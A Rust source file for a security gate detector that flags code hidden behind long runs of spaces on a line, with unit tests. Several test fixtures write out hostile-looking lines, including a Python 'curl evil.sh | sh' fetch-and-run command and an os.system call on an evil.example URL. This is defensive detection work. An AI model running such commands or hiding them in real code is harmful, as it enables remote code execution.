//! Space-hiding detection: code pushed past a wall of spaces so it sits
//! outside the visible editor viewport.

use crate::detectors::{Detection, Detector, FileContext, Severity};
use crate::diff::strip_comments;
use crate::error::GateError;
use async_trait::async_trait;

/// Length of the space run that counts as deliberate hiding.
const SPACE_RUN: usize = 200;
/// Collapsed line content below this length is just odd formatting.
const MIN_HIDDEN_LEN: usize = 50;

pub struct SpaceHidingDetector;

#[async_trait]
impl Detector for SpaceHidingDetector {
    fn name(&self) -> &'static str {
        "space-hiding"
    }

    async fn scan(&self, content: &str, ctx: &FileContext) -> Result<Vec<Detection>, GateError> {
        Ok(detect_space_hiding(content, &ctx.language, ctx.full_findings))
    }
}

pub fn detect_space_hiding(content: &str, lang: &str, full_findings: bool) -> Vec<Detection> {
    let run = " ".repeat(SPACE_RUN);
    let mut results = Vec::new();

    for (idx, line) in content.lines().enumerate() {
        if line.len() <= SPACE_RUN {
            continue;
        }
        let Some(run_start) = line.find(run.as_str()) else { continue };
        let collapsed = line.replace("  ", "");
        if collapsed.len() <= MIN_HIDDEN_LEN {
            continue;
        }

        // Evidence is the text after the space wall: unlike the collapsed
        // line it is a literal substring of the addition. The addition it
        // is matched against has had comments stripped, so strip them
        // here too or a trailing comment would sink the match.
        let hidden = line[run_start..].trim_start();
        let cleaned = strip_comments(hidden, lang);
        let cleaned = cleaned.trim();
        if cleaned.is_empty() {
            continue;
        }
        let evidence: String = cleaned.chars().take(100).collect();
        results.push(
            Detection::new(
                "An unreasonable run of spaces in one line, probably hiding code.",
                Severity::Error,
                idx + 1,
            )
            .with_evidence(evidence),
        );
        if !full_findings {
            return results;
        }
    }
    results
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hidden_line() -> String {
        format!(
            "x = 1;{}import os; os.system('curl evil.sh | sh')  # plus padding to pass the length gate",
            " ".repeat(220)
        )
    }

    #[test]
    fn flags_space_hidden_code() {
        let content = format!("first line\n{}\n", hidden_line());
        let results = detect_space_hiding(&content, "Python", false);
        assert_eq!(results.len(), 1);
        assert_eq!(results[0].line_number, 2);
        assert_eq!(results[0].severity, Severity::Error);
        let evidence = results[0].evidence.as_deref().unwrap();
        assert!(evidence.starts_with("import os"));
    }

    #[test]
    fn long_line_without_space_run_is_clean() {
        let content = "a".repeat(500);
        assert!(detect_space_hiding(&content, "Python", true).is_empty());
    }

    #[test]
    fn space_run_with_little_content_is_clean() {
        let content = format!("x{}y", " ".repeat(300));
        assert!(detect_space_hiding(&content, "Python", true).is_empty());
    }

    #[test]
    fn full_findings_reports_every_line() {
        let content = format!("{}\n{}\n", hidden_line(), hidden_line());
        assert_eq!(detect_space_hiding(&content, "Python", true).len(), 2);
    }

    #[test]
    fn evidence_stops_before_a_trailing_comment() {
        let results = detect_space_hiding(&hidden_line(), "Python", false);
        assert_eq!(results.len(), 1);
        assert_eq!(
            results[0].evidence.as_deref(),
            Some("import os; os.system('curl evil.sh | sh')")
        );
    }

    #[test]
    fn comment_marker_inside_a_string_is_kept() {
        let line = format!(
            "a = 1;{}url = 'http://evil.example/#x'; import os; os.system(url)",
            " ".repeat(220)
        );
        let results = detect_space_hiding(&line, "Python", false);
        let evidence = results[0].evidence.as_deref().unwrap();
        assert!(evidence.contains("evil.example/#x"));
        assert!(evidence.ends_with("os.system(url)"));
    }

    #[test]
    fn wall_followed_only_by_a_comment_is_clean() {
        let line = format!(
            "x = 1{}# nothing but commentary hiding back here, well past the length gate",
            " ".repeat(220)
        );
        assert!(detect_space_hiding(&line, "Python", true).is_empty());
    }
}
